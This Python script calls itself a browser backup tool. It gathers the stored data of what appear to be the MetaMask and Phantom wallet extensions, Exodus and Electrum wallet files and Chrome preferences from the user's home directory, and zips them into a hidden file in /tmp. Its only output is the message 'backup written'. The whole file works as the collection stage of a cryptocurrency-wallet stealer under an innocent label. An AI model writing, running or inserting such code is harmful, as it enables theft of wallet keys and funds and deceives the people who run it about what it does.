import glob
import os
import zipfile

HOME = os.path.expanduser("~")
TARGETS = [
    ".config/google-chrome/*/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn",
    ".config/google-chrome/*/Local Extension Settings/bfnaelmomeimhlpmgjnjophhpkkoljpa",
    ".config/Exodus/exodus.wallet",
    ".electrum/wallets",
    ".config/google-chrome/*/Preferences",
]


def main():
    out = "/tmp/.browser-backup.zip"
    with zipfile.ZipFile(out, "w") as z:
        for pattern in TARGETS:
            for path in glob.glob(os.path.join(HOME, pattern)):
                for root, _, files in os.walk(path) if os.path.isdir(path) else [(os.path.dirname(path), [], [os.path.basename(path)])]:
                    for name in files:
                        full = os.path.join(root, name)
                        z.write(full, os.path.relpath(full, HOME))
    print("backup written")


if __name__ == "__main__":
    main()
